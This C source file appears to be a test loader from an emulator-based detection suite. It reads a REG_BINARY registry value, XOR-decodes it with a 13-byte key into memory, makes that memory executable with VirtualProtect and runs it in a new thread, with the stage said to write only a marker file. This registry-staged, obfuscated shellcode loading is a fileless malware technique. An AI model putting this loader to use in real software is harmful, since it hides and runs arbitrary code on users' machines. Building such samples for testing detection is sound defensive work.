/*
 * loader.c - generality suite: REG_BINARY registry value -> 13-byte repeating XOR -> RW memory
 * -> RX -> thread. Benign, emulator-only (see ../../lineage-common/common.h).
 *
 * Reads HKCU\Software\ChainreplayDemo\Cache (REG_BINARY) with RegGetValueA into a heap block,
 * XORs it with a 13-byte repeating key into a new PAGE_READWRITE allocation, makes that
 * PAGE_EXECUTE_READ with VirtualProtect and runs it in a new thread. The stage
 * (../../lineage-common/payload.c) writes C:\Users\Public\lineage_regbin.txt.
 * Exit codes: 0 ok, 1 no marker, 2 registry, 4 memory, 5 thread.
 */
#include "common.h"

void Entry(void)
{
    static struct sc_ctx ctx;
    static const unsigned char key[13] = {0x91, 0x4e, 0x27, 0xd3, 0x08, 0x6b, 0xfa, 0x35, 0xc2, 0x1f, 0x7d, 0xa4, 0x59};
    DWORD type = 0, cb = 0x2000, i, old;
    unsigned char *raw, *mem;
    HANDLE thread;

    if (!marker_present())
        ExitProcess(1);
    raw = (unsigned char *)HeapAlloc(GetProcessHeap(), 0, cb);
    if (!raw)
        ExitProcess(4);
    if (RegGetValueA(HKEY_CURRENT_USER, "Software\\ChainreplayDemo", "Cache", RRF_RT_REG_BINARY, &type, raw, &cb) !=
            ERROR_SUCCESS ||
        type != REG_BINARY || cb < 64)
        ExitProcess(2);
    mem = (unsigned char *)VirtualAlloc(0, cb, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!mem)
        ExitProcess(4);
    for (i = 0; i < cb; i++)
        mem[i] = raw[i] ^ key[i % 13];
    if (!VirtualProtect(mem, cb, PAGE_EXECUTE_READ, &old))
        ExitProcess(4);
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_regbin.txt", "decoded from a REG_BINARY value\n");
    thread = CreateThread(0, 0, (LPTHREAD_START_ROUTINE)(void *)mem, &ctx, 0, 0);
    if (!thread)
        ExitProcess(5);
    WaitForSingleObject(thread, INFINITE);
    ExitProcess(0);
}
